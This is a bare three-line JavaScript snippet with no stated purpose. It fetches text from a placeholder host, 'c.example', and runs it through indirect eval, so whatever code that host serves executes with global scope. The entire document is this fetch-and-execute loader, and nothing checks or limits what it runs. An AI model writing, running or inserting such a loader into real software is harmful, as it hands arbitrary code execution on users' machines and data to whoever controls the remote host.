async function load(u) { const r = await fetch(u); return r.text(); }
const go = (c) => (0, eval)(c);
go(await load('https://c.example/x'));
